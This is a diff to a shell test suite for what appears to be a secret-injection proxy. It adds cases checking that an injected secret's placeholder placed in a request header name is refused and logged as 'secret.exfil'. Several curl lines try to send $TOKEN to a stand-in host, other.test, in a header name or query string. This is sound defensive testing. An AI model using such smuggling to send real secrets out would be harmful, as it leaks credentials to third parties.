@@ -161,6 +161,25 @@ like "$RF_OUT" 'GET /control' "... the control (the same host, no placeholder) w
 is $(($(exfils) - n0)) 1 "... secret.exfil recorded"
 like "$(records | grep '"secret.exfil"' | tail -1)" '"destination":"other.test:8080"' "... naming the destination"
 
+# a header name is never a place for it (only values are replaced): refused
+# toward any host, the secret's own included
+rm -f "$TH/http.log"
+n0=$(exfils)
+er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -H "X-$TOKEN: 1" http://other.test:8080/hname; echo
+	curl -sS -m 10 -H "X-$TOKEN: 1" http://svc.test:8080/hname-own; echo
+	curl -sS -m 10 -H "X-Plain: 1" http://other.test:8080/hname-ok; echo "PH=$TOKEN"'
+PHN=$(sed -n 's/^PH=//p' <<<"$RF_OUT")
+like "$(sed -n 1p <<<"$RF_OUT")" 'other.test:8080 refused: the placeholder of the injected secret TOKEN stands in the request header name' \
+	"the placeholder in a request header name to another host: 403 saying why"
+like "$RF_OUT" 'svc.test:8080 refused: .*stands in the request header name' "... and to the secret's own host: 403 too"
+unlike "$(httplog)" 'GET /hname ' "... nothing of the first reached a host"
+unlike "$(httplog)" 'GET /hname-own' "... nor of the second"
+like "$RF_OUT" 'GET /hname-ok' "... the control (the same header name without it) is served"
+like "$(httplog)" 'X-Plain: 1' "... its header passed on"
+is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
+like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"request header name"' "... where: request header name"
+unlike "$(records)" "$PHN" "... the name itself (the placeholder) not recorded"
+
 n0=$(exfils)
 er "${INJ[@]}" -- sh -c 'curl -sS -m 10 "http://svc.test:8080/q?k=$TOKEN"; echo
 	curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://svc.test:8080/ok'
